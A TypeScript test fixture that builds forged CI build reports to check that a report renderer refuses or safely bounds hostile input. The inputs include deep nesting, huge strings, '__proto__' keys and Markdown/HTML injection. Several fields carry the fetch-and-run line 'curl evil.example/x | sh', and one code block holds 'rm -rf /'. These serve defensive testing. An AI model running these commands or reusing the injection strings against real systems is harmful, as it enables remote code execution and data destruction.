import { toJson } from '../../src/report/model/json.ts'
import type { Report } from '../../src/report/model/report.ts'
import { addon, compared, contents, digest, failing, report, run, target, unhealthy } from '../report/reports.ts'

const evil = 'https://evil.example/'
const command = 'curl evil.example/x | sh'
const markup = [
  `[click](${evil})`,
  `![x](${evil}x.png)`,
  `<img src="${evil}">`,
  `<a href="${evil}">x</a>`,
  '<!-- aicleaner-build key=build run=99999999999 attempt=9 head=x news=yes -->',
  '</details>',
  '@org/admins',
  '#1',
  '```\n```sh\nrm -rf /\n```',
  `\n\n[x]: ${evil}\n\n[x]`,
  `${evil} www.evil.example a@evil.example`,
].join('\n')

/** A report that fails in every part that a comment shows. */
const whole = (): Report =>
  report(
    [
      addon(
        [
          target('amd64', { size: compared(1e7, 2e7, { changes: ['+10 MB: something'] }) }),
          target('aarch64', { smoke: unhealthy(), size: compared(1e7, 3e7) }),
          target('armv7', {
            build: {
              status: 'failed',
              durationMs: 9,
              emulated: true,
              reason: 'no',
              log: ['x'],
              where: { file: 'f', line: 1, column: 1 },
            },
          }),
        ],
        {
          contexts: [
            {
              ...{ folder: 'docker', dockerfile: 'docker/Dockerfile', before: { files: 9, bytes: 9e6 } },
              ...{ after: { files: 9, bytes: 9e6 }, largestFiles: [{ path: 'x', bytes: 1 }] },
              exclude: [{ pattern: 'x', reason: 'because', files: 1, bytes: 1 }],
            },
          ],
        },
      ),
    ],
    {
      run: { ...run, headSha: 'f'.repeat(40) },
      verdict: failing({ gate: 'smoke', addon: 'aicleaner_v3', architecture: 'aarch64', message: 'not healthy' }),
    },
  )

type Json = null | boolean | number | string | Json[] | { [name: string]: Json }

/** Every text, number or list of a report, changed by what it is and where. */
function changed(value: Json, change: (value: Json, name: string) => Json, name = ''): Json {
  if (Array.isArray(value))
    return change(
      value.map((one) => changed(one, change, name)),
      name,
    )
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, changed(one, change, key)]))
  return change(value, name)
}

/** Words of a list, digests and times: what the schema allows nothing else for. */
const strict = new Set(
  ...[
    [
      'kind',
      'mode',
      'status',
      'gate',
      'severity',
      'architecture',
      'platform',
      'method',
      'compression',
      'budget',
      'layers',
      'source',
    ],
  ],
)
const isStrict = (name: string, value: string): boolean =>
  strict.has(name) ||
  /^sha256:/.test(value) ||
  /^\d{4}-\d\d-\d\dT/.test(value) ||
  ['aicleaner-build', 'apk', 'python'].includes(value) ||
  (name === 'reason' && /^(deleted|overwritten|metadata-only)$/.test(value))

const json = (value: Report): Json => JSON.parse(toJson(value)) as Json
const texts = (text: string): string =>
  JSON.stringify(
    changed(json(whole()), (value, name) => (typeof value === 'string' && !isStrict(name, value) ? text : value)),
  )
const numbers = (number: string): string =>
  JSON.stringify(
    changed(json(whole()), (value, name) => (typeof value === 'number' && name !== 'schemaVersion' ? '\u0001' : value)),
  ).replaceAll('"\\u0001"', number)
const lists = (length: number): string =>
  JSON.stringify(
    changed(json(whole()), (value) =>
      Array.isArray(value) && value.length > 0 && typeof value[0] !== 'object'
        ? Array.from({ length }, (_, index) => `${index} ${String(value[0])}`)
        : value,
    ),
  )
const withTargets = (length: number): string => {
  const [one] = whole().addons[0]?.targets ?? []
  return JSON.stringify(report([addon(Array.from({ length }, () => one ?? target('amd64')))]))
}
const text = (): string => toJson(whole())
const inSmoke = (more: object): string => {
  const smoke = unhealthy()
  const evidence = { ...smoke.evidence, ...more } as NonNullable<typeof smoke.evidence>
  return toJson(report([addon([target('amd64', { smoke: { ...smoke, evidence } })])]))
}
const audited = (more: object): string => {
  const finding = { rule: 'image/root-user', severity: 'warning', message: 'm', fix: 'f', ...more } as const
  return toJson(report([addon([target('amd64', { audit: [finding] })])]))
}
const tree = (levels: number): string =>
  text().replace(
    '"contents": {',
    `"contents": {"tree": ${'{"name":"x","bytes":1,"children":['.repeat(levels)}${']}'.repeat(levels)},`,
  )

/** By what is wrong with each. `refused`: nothing is written; else what is written is bounded, and has nothing to follow. */
export const forgedReports: Readonly<Record<string, { readonly text: () => string; readonly refused?: true }>> = {
  'no text': { text: () => '', refused: true },
  'no JSON': { text: () => '{', refused: true },
  'a list': { text: () => '[]', refused: true },
  null: { text: () => 'null', refused: true },
  'a number': { text: () => '1e999', refused: true },
  'lists nested a million times': { text: () => '['.repeat(1e6) + ']'.repeat(1e6), refused: true },
  'objects nested a million times': { text: () => `${'{"a":'.repeat(1e6)}1${'}'.repeat(1e6)}`, refused: true },
  'a tree nested a hundred thousand times': { text: () => tree(1e5), refused: true },
  'a tree nested five hundred times': { text: () => tree(500) },
  'seventeen megabytes of blanks': { text: () => text() + ' '.repeat(17e6), refused: true },
  'ten megabytes in one word': { text: () => text().replace('AICleaner v3', 'x'.repeat(1e7)) },
  'another major version': { text: () => text().replace('"schemaVersion": 1', '"schemaVersion": 2'), refused: true },
  'a text for a number': { text: () => text().replace(/"download": \d+/, '"download": "1"'), refused: true },
  'a list for a text': { text: () => text().replace('"slug": "aicleaner_v3"', '"slug": []'), refused: true },
  'an object for a list': {
    text: () => text().replace(/"tags": \[[^\]]*\]/, '"tags": {"length": 4294967296}'),
    refused: true,
  },
  'a negative size': { text: () => text().replace(/"download": \d+/, '"download": -5'), refused: true },
  'numbers of three hundred digits': { text: () => numbers('1e308') },
  'the largest safe numbers': { text: () => numbers('9007199254740991') },
  'zeros everywhere': { text: () => numbers('0') },
  'a digest that is none': { text: () => text().replaceAll(digest(1), evil), refused: true },
  'Markdown and HTML in all texts': { text: () => texts(markup) },
  'a command in all texts': { text: () => texts('`ok`') },
  'words of forty kilobytes': { text: () => texts('a'.repeat(40_000)) },
  'forty kilobytes of backticks': { text: () => texts('`'.repeat(40_000)) },
  'forty kilobytes of brackets': { text: () => texts('['.repeat(40_000)) },
  'forty kilobytes of blanks': { text: () => texts(' '.repeat(40_000)) },
  'forty kilobytes of escape sequences': { text: () => texts('\u001b[1;'.repeat(10_000)) },
  'halves of surrogate pairs': { text: () => texts('\ud83d'.repeat(500)) },
  'text turned around': { text: () => texts('\u202e\u2066\u200f'.repeat(100)) },
  'names of properties': { text: () => texts('constructor') },
  'lists of ten thousand': { text: () => lists(10_000) },
  'two thousand images': { text: () => withTargets(2_000) },
  'no add-ons': { text: () => toJson({ ...whole(), addons: [] }) },
  'a hundred thousand add-ons': {
    text: () => toJson({ ...whole(), addons: Array.from({ length: 1e5 }, () => addon([])) }).replaceAll(/\n */g, ''),
  },
  'a hundred thousand reasons': {
    text: () =>
      JSON.stringify({
        ...whole(),
        verdict: failing(
          ...Array.from({ length: 1e5 }, (_, index) => ({ gate: 'smoke', message: `r${index}` }) as const),
        ),
      }),
  },
  '__proto__ keys': {
    text: () =>
      text().replace(
        '"run": {',
        '"__proto__": {"passed": true}, "run": {"__proto__": {"url": "https://evil.example/"},',
      ),
  },
  'another run, repository and pull request': {
    text: () =>
      toJson({
        ...whole(),
        run: {
          ...run,
          runId: '99999',
          runAttempt: 99,
          url: `${evil}x/actions/runs/1`,
          repository: 'evil/evil',
          pullRequest: 1,
          headSha: 'e'.repeat(40),
          sha: 'e'.repeat(40),
        },
      }),
  },
  'a command to repeat the test': { text: () => inSmoke({ reproduce: command, image: command }) },
  'a fix that is a command': { text: () => audited({ fix: command, link: evil, rule: 'x' }) },
  'a remedy that is a command': {
    text: () =>
      toJson({
        ...whole(),
        verdict: failing({ gate: 'build', message: 'no', remedy: command }),
        diagnostics: [{ severity: 'error', code: 'x', message: command, remedy: command }],
      }),
  },
  'a pattern to ignore': { text: () => text().replace('"pattern": "x"', `"pattern": ${JSON.stringify(command)}`) },
  'a publication': {
    text: () =>
      toJson({
        ...whole(),
        publication: { status: 'published' },
        addons: whole().addons.map((one) => ({
          ...one,
          manifest: { image: 'evil.example/x', tags: ['latest'], digest: digest(9) },
        })),
      }),
  },
  'a commit of the base repository as what it is compared with': {
    text: () => text().replaceAll(/"commit": "c+"/g, `"commit": "${'e'.repeat(40)}"`),
  },
  'a package of each kind of line end': {
    text: () => text().replaceAll('"aiohttp"', JSON.stringify(`a\r\nb\u2028c\u2029d\u0085e${markup}`)),
  },
  'a log of a hundred thousand lines': {
    text: () => inSmoke({ stdout: Array.from({ length: 1e5 }, (_, index) => `line ${index}`) }),
  },
  'waste that is said to be in no layer': {
    text: () =>
      text()
        .replaceAll(JSON.stringify(contents.waste[0]?.path), '"x"')
        .replaceAll('"writtenBy": 1', '"writtenBy": 4294967296'),
  },
}
